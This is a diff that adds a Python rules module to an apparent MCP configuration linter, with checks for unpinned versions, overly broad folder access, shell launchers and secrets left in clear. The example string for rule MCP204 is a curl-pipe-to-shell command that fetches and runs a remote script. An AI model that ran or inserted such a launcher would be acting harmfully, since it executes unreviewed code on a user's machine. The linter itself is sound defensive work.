@@ -1,0 +1,105 @@
+"""Rules about one entry: its version, its command line, its paths, its secrets."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+from mcpconf.model.finding import Severity
+from mcpconf.packages import recognise_entry
+from mcpconf.packages.paths import paths_in
+from mcpconf.permissions import shell_launcher, too_broad
+from mcpconf.rules.frame import Case, Evidence, Hit, Rule
+from mcpconf.secrets import find
+
+
+def _hit(case: Case, message: str, **more: str) -> Hit:
+    return Hit(
+        case.subject,
+        case.address,
+        message,
+        where=case.where,
+        hint=more.get("hint", ""),
+        evidence=more.get("evidence", ""),
+    )
+
+
+def _unpinned(evidence: Evidence) -> Iterator[Hit]:
+    required = "exact-version" in evidence.manifest.policy.require
+    for case in evidence.cases:
+        launched = recognise_entry(case.entry)
+        if not launched.floating:
+            continue
+        asked = f"asks for `{launched.version}`" if launched.version else "asks for no version"
+        message = f"`{case.name}` {asked} of {launched.identity}, so what runs can change by itself"
+        severity: Severity | None = None if case.subject != "desired" or required else "warning"
+        yield Hit(case.subject, case.address, message, where=case.where, severity=severity)
+
+
+def _too_broad(evidence: Evidence) -> Iterator[Hit]:
+    situation = evidence.situation
+    for case in evidence.cases:
+        for path in paths_in([str(value) for value in case.entry.args]):
+            reason = too_broad(path, situation.home, situation.os)
+            if reason:
+                yield _hit(case, f"`{case.name}` may reach `{path}`: {reason}", evidence=path)
+
+
+def _shell(evidence: Evidence) -> Iterator[Hit]:
+    for case in evidence.cases:
+        reason = shell_launcher([str(value) for value in case.entry.argv])
+        if reason:
+            yield _hit(case, f"`{case.name}` starts a shell or interpreter: {reason}")
+
+
+def _literal_secret(evidence: Evidence) -> Iterator[Hit]:
+    for case in evidence.cases:
+        for place in dict.fromkeys(secret.place for secret in find(case.entry)):
+            yield _hit(case, f"`{case.name}` holds a secret in clear in `{place}`", evidence=place)
+
+
+RULES = (
+    Rule(
+        id="MCP101",
+        title="unpinned version",
+        severity="error",
+        threat="vulnerable versions (re-deployment), rug pull",
+        check=_unpinned,
+        what="A command line that asks for no exact version: none at all, `@latest`, a range, a tag, a branch.",
+        why="Whoever publishes the next version decides what runs on the machine, after review and without a change in git.",
+        example="npx -y @acme/files",
+        fix='write the exact version, such as `version: "1.2.0"`',
+    ),
+    Rule(
+        id="MCP203",
+        title="folder too broad",
+        severity="warning",
+        threat="sandbox escape, privilege persistence",
+        check=_too_broad,
+        what="An argument that gives a server the root, a whole home, a drive, or a folder of credentials.",
+        why="A server that may read `~` may read every key and token in it; the argument is often the only limit it has.",
+        example="npx -y @modelcontextprotocol/server-filesystem@2026.8.31 ~",
+        fix="name the folder that the server needs",
+    ),
+    Rule(
+        id="MCP204",
+        title="shell or interpreter as launcher",
+        severity="error",
+        threat="code injection, installer spoofing",
+        check=_shell,
+        what="A command line that hands text to a shell or interpreter: `sh -c`, `node -e`, `curl ... | sh`.",
+        why="The text is a program that nobody pinned or reviewed. Rogue entries written by malware look like this.",
+        example='sh -c "curl -s https://example.org/i.sh | sh"',
+        fix="start the program itself, with its arguments as a list",
+    ),
+    Rule(
+        id="MCP401",
+        title="literal secret",
+        severity="error",
+        threat="credential theft",
+        check=_literal_secret,
+        what="A token, key or password in clear in a variable, header, argument or address.",
+        why="Host files are copied, synced and committed. A reference keeps the value out of all of them.",
+        example="env: {GITHUB_TOKEN: ghp_...}",
+        fix="write a reference, such as `{secret: GITHUB_TOKEN}`, and rotate the secret",
+    ),
+)
